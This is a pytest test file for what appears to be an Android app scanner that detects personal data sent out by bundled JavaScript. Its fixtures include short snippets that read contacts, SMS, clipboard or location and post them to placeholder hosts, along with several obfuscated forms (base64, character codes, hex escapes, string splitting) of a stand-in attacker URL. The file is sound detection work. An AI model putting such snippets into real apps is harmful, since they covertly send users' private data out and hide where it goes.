import base64
import re

import pytest

from rogue_scan.apk import compiled, web
from rogue_scan.model.data import DataCategory as D
from rogue_scan.model.data import Sink


def script(text):
    return web.parse(text.encode(), "assets/www/app.js")


def flows(text):
    return [(f.data, f.sink, f.endpoint) for f in script(text).flows]


CORDOVA = """navigator.contacts.find(['*'], function(c) {
    var x = new XMLHttpRequest(); x.open('POST', 'http://a.example/c'); x.send(JSON.stringify(c)); })"""
NAMED = """function ok(p) { var s = new WebSocket('wss://w.example/x'); s.send(p.coords.latitude) }
    navigator.geolocation.watchPosition(ok)"""
UNI = """uni.getLocation({success: function(r) {
    uni.request({url: 'http://u.example/l', data: {x: r.longitude}}) }})"""
ASSIGNED = """const t = await Clipboard.getString();
    fetch(URL, {body: t});
    const URL = 'https://c.example/p'"""
DERIVED = "SMS.listSMS({}, function(list) { var b = JSON.stringify(list); $.post('http://s.example/s', b) })"
ARROW = "navigator.geolocation.getCurrentPosition(p => fetch('https://g.example/' + p.coords.latitude))"


@pytest.mark.parametrize(
    ("text", "flow"),
    [
        (CORDOVA, (D.CONTACTS, Sink.HTTP, "a.example")),
        (ARROW, (D.LOCATION, Sink.HTTP, "g.example")),
        (UNI, (D.LOCATION, Sink.HTTP, "u.example")),
        (ASSIGNED, (D.CLIPBOARD, Sink.HTTP, "c.example")),
        (NAMED, (D.LOCATION, Sink.SOCKET, "w.example")),
        (DERIVED, (D.SMS, Sink.HTTP, "s.example")),
    ],
)
def test_what_is_taken_is_sent(text, flow):
    assert flows(text) == [flow]


@pytest.mark.parametrize(
    "text",
    [
        "navigator.geolocation.getCurrentPosition(function(p){map.centre(p.coords)});fetch('https://a.example/news')",
        "fetch('https://a.example/plants.json').then(r=>show(r))",
        "navigator.camera.getPicture(function(i){document.getElementById('x').src=i})",
    ],
)
def test_taking_and_sending_apart_is_no_flow(text):
    assert flows(text) == []


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("var u='http://a.evil.example/x'", None),
        (f"var u=atob('{base64.b64encode(b'http://a.evil.example/x').decode()}')", "base64"),
        (
            f"String.fromCharCode({','.join(str(ord(c)) for c in 'http://a.evil.example/x')})",
            "character codes",
        ),
        (  # odd white space between the numbers, which a script may have
            "[" + ",\x1c".join(str(ord(c)) for c in "http://a.evil.example/x") + "]",
            "character codes",
        ),
        ("var u='" + "".join(f"\\x{ord(c):02x}" for c in "http://a.evil.example/x") + "'", "escapes"),
        ("var u='ht'+'tp://a.ev' + \"il.example/x\"", "split"),
    ],
)
def test_hidden_addresses(text, hidden):
    assert [(a.value, a.hidden) for a in script(text).addresses] == [("http://a.evil.example/x", hidden)]


def test_forms():
    inputs = "<input name=user><input type=password><input name=cardNo placeholder='银行卡号'>"
    page = f"<html><form>{inputs}</form></html>"
    found = web.parse(page.encode(), "assets/www/pay.html")
    assert found.kind == "html"
    assert {category for category, _ in found.fields} == {D.ACCOUNT_PASSWORD, D.BANK_ACCOUNT}


def test_code_that_runs_text():
    assert script("eval(atob(x))").evaluates
    assert not script("evaluate(x)").evaluates


def test_compiled_scripts_are_searched():
    found = web.parse(
        compiled.HERMES + bytes(40) + b"https://api.hermes.example/v1\0", "assets/index.android.bundle"
    )
    assert (found.kind, [a.host for a in found.addresses]) == ("hermes", ["api.hermes.example"])


def test_wide_strings_of_assemblies():
    data = bytes(32) + "http://net.example/x".encode("utf-16-le") + bytes(8)
    assert [a.host for a in web.parse(data, "assemblies/App.dll").addresses] == ["net.example"]


def test_texts_without_addresses_are_nothing():
    assert web.parse(b"just a text", "assets/readme.txt") is None


def test_every_pattern_contains_its_literal():
    for category, literal, pattern in web._takes():
        assert len(literal) >= 4, (category, pattern)
        assert literal in pattern.replace("\\", ""), pattern
        re.compile(pattern)
